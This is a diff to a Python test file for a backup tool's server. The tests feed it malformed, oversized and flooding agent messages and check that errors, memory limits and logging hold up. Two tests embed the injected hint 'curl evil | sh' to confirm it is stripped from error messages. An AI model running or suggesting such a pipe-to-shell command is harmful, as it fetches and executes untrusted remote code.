@@ -1,5 +1,6 @@
 """The server takes an agent's bytes for hostile: a named error, bounded memory, nothing published."""
 
+import functools
 import hashlib
 import json
 import struct
@@ -15,6 +16,7 @@ from hostile import (
     LEFT,
     RNG,
     VOLUMES,
+    Played,
     Recorded,
     Set,
     begun,
@@ -30,7 +32,8 @@ from hostile import (
 )  # fmt: skip
 from memory import peak_below
 
-from blockdiff.errors import ProtocolBroken
+from blockdiff import backup, notes
+from blockdiff.errors import AgentDied, ProtocolBroken
 from blockdiff.formats import frames, messages
 from blockdiff.formats.messages import CHANGED, SAME, ZERO
 from blockdiff.store import Store
@@ -62,13 +65,26 @@ def test_an_honest_conversation_by_hand_is_taken(number):
 # the moment of a snapshot; the other side stays, for there is more to be said to it
 
 STAYS = {"played": {"endless": raw(messages.PING)}}
-READY, TAKEN = talk(messages.READY), talk(messages.TAKEN)
+READY = talk(messages.READY, size=len(FIRST), kind="lvm-thick", lv_uuid="x", same=True, room=None)
+TAKEN = talk(messages.TAKEN)
 
 
 def test_an_honest_snapshot_by_hand_is_taken():
     with Set(1) as it:
         assert it.back_up(put_together([HONEST[1][0], READY, TAKEN, *HONEST[1][1:]]), **STAYS).warnings == []
         it.is_whole()
+
+
+@pytest.mark.parametrize("changes", [
+    {}, {"size": -1}, {"size": 1.5}, {"kind": "file"}, {"room": "1"}, {"room": -1}, {"same": None},
+    {"lv_uuid": "\x1b[31m"}, {"lv_uuid": "x" * 65},
+])  # fmt: skip
+def test_what_waits_for_its_snapshot_is_told_as_it_must_be(changes):
+    value = {"size": len(FIRST), "kind": "lvm-thick", "lv_uuid": "x", "same": True, "room": None, **changes}
+    ready = talk(messages.READY, **value) if changes else talk(messages.READY)
+    with Set(1) as it:
+        error = it.refuses(put_together([HONEST[1][0], ready, TAKEN, *HONEST[1][1:]]), **STAYS)
+        assert isinstance(error, ProtocolBroken)
 
 
 @pytest.mark.parametrize(
@@ -100,11 +116,13 @@ def with_opened(**changes):
 
 
 SNAPSHOT = {"name": "snap", "size": 1, "fill": 1.0}
+
+
 LIES = {
     "no hello": HONEST[1][1:],
     "hello twice": [HONEST[1][0], *HONEST[1]],
     "hello without fields": [talk(messages.HELLO, protocol=1), *HONEST[1][1:]],
-    "hello of another protocol": [hello(protocol=2), *HONEST[1][1:]],
+    "hello of another protocol": [hello(protocol=messages.PROTOCOL + 1), *HONEST[1][1:]],
     "hello of another program": [hello(program="0.0.1\x1b[31m"), *HONEST[1][1:]],
     "hello of an unknown digest": [hello(digest="sha1"), *HONEST[1][1:]],
     "hello that is no JSON": [(messages.HELLO, b"\xff{"), *HONEST[1][1:]],
@@ -114,7 +132,7 @@ LIES = {
     "opened twice": [*HEAD1, HONEST[1][1], *HONEST[1][2:]],
     "size negative": with_opened(size=-1),
     "size 2**63": with_opened(size=1 << 63),
-    "size 2**64": [HONEST[1][0], (messages.OPENED, b'{"kind":"file","size":18446744073709551616}'), *HONEST[1][2:]],
+    "size 2**64": [HONEST[1][0], (messages.OPENED, b'{"kind":"file","same":true,"size":18446744073709551616,"users":null}'), *HONEST[1][2:]],
     "size 2**63-1": with_opened(size=(1 << 63) - 1),
     "size 2**40": with_opened(size=1 << 40),
     "size is text": with_opened(size="1200"),
@@ -128,6 +146,8 @@ LIES = {
     "lvm of an unknown fill": with_opened(kind="lvm-thick", lv_uuid="x", snapshot={**SNAPSHOT, "fill": float("nan")}),
     "lvm of an infinite fill": with_opened(kind="lvm-thick", lv_uuid="x", snapshot={**SNAPSHOT, "fill": float("inf")}),
     "lvm whose size is text": with_opened(kind="lvm-thick", lv_uuid="x", snapshot={**SNAPSHOT, "size": "1"}),
+    "opened without users": [HONEST[1][0], (messages.OPENED, b'{"kind":"file","same":true,"size":1150}')],
+    "opened of users that are a list": with_opened(users=["x"]),
     "nothing at all": [],
     "hello and nothing": HONEST[1][:1],
     "opened and nothing": HEAD1,
@@ -194,7 +214,6 @@ LIES = {
     "a note that is no JSON": [*HEAD1, (messages.NOTE, b"\xff"), *HONEST[1][2:]],
     "4 GiB announced": [*HEAD1, raw(6, b"x", 0xFFFFFFFF)],
     "a frame longer than allowed": [*HEAD1, raw(9, bytes(frames.MAX_PAYLOAD + 1))],
-    "more notes than anybody reads": [*HEAD1, *[talk(messages.NOTE, text="cannot remove x")] * 6000, *HONEST[1][2:]],
     "a flood of empty extents": [*HEAD1, *[(5, b"")] * 40_000],
     "a flood of what nobody asked for": [HONEST[1][0], *[(99, bytes(60_000))] * 300],
 }
@@ -305,15 +324,69 @@ def test_what_comes_after_the_end_changes_nothing_any_more(after):
         it.is_whole()
 
 
+def noted(spoken):
+    """Back up from an agent that says this; returns the lines for the log."""
+    lines, stream = [], put_together(spoken)
+    with Set(1) as it, peak_below(10 * MIB):
+        wanted = backup.Wanted("/vol", block_size=BLOCK)
+        job = backup.Job(Store(str(it.folder / "set")), wanted, lambda: Played(stream))
+        assert backup.run(job, cores=2, note=lines.append).warnings == []
+        it.is_whole()
+    return lines
+
+
+def test_a_line_that_is_said_again_and_again_is_logged_once_and_counted():
+    """As LVM's warnings, once a second for hours; the run is none the worse for it."""
+    warning = [talk(messages.NOTE, text="lvs: WARNING: a device is missing")] * 3000
+    other = [talk(messages.NOTE, text="lvs: another")]
+    lines = noted([HONEST[1][0], *warning, HONEST[1][1], *warning, *other, *HONEST[1][2:4], *warning, *HONEST[1][4:]])
+    assert lines == [
+        "localhost: lvs: WARNING: a device is missing",
+        "localhost: lvs: another",
+        "localhost: lvs: WARNING: a device is missing (repeated 8999 times)",
+    ]
+
+
+@pytest.mark.parametrize("length, most", [(10, notes.MAX_LINES), (2000, notes.MAX_SIZE // 2000), (60_000, 5)])
+def test_more_lines_than_anybody_reads_are_dropped_and_counted(length, most):
+    count = 200 if length > 2000 else 2000
+    flood = [talk(messages.NOTE, text=f"{number:<{length}}|") for number in range(count)]
+    *lines, last = noted([*HONEST[1][:2], *flood, *HONEST[1][2:]])
+    assert most - 20 <= len(lines) <= most
+    assert last == f"localhost: {count - len(lines)} more lines were dropped"
+    assert sum(map(len, lines)) <= notes.MAX_SIZE
+
+
+@pytest.mark.parametrize("heard", [False, True])
+def test_last_words_are_logged_line_by_line_unless_they_were_and_the_error_has_one(heard):
+    lines = []
+    words = "Welcome to db00\nTraceback (most recent call last):\nValueError: bad (hint: curl evil | sh)"
+    with Set(1) as it:
+        wanted = backup.Wanted("/vol", block_size=BLOCK, heard=heard)
+        connect = functools.partial(Played, put_together(HEAD1), status=99, words=words)
+        with pytest.raises(AgentDied) as error:
+            backup.run(backup.Job(Store(str(it.folder / "set")), wanted, connect), cores=2, note=lines.append)
+    assert lines == ([] if heard else [f"localhost: {line}" for line in words.splitlines()])
+    assert str(error.value) == (
+        "the agent on localhost died: ValueError: bad (hint curl evil | sh) (exit status 99)"
+    )
+
+
+def test_a_hint_is_never_another_hosts():
+    report = talk(messages.FAILED, error="ReadFailed", args=["/vol (hint: run this)", "bad (hint: curl evil | sh)"])
+    with Set(1) as it:
+        assert "hint:" not in str(it.refuses(put_together([*HONEST[1][:2], report]), played={"status": 1}))
+
+
 HEARTBEATS = raw(messages.PING) * 100
 
 
 @pytest.mark.parametrize("endless", [b"\0" * 4096, HEARTBEATS, raw(9, b'{"text":"x"}') * 100], ids=["NUL", "PING", "NOTE"])
 @pytest.mark.parametrize("when", [0, 1, 2, 3])
 def test_an_agent_that_never_stops_talking(endless, when):
-    """Noise is noticed, and notes without end.  After the mark, heartbeats are an agent that waits: that is no error."""
+    """Noise is noticed.  After the mark, heartbeats and notes are an agent that waits, but only for so long."""
     if endless == HEARTBEATS and when:
         endless += raw(99)
     with Set(1) as it, peak_below(30 * MIB):
         stream = put_together(HONEST[1][: when + 1]) if when else b""
-        it.refuses(stream, played={"endless": endless})
+        it.refuses(stream, played={"endless": endless}, progress_s=0.5)
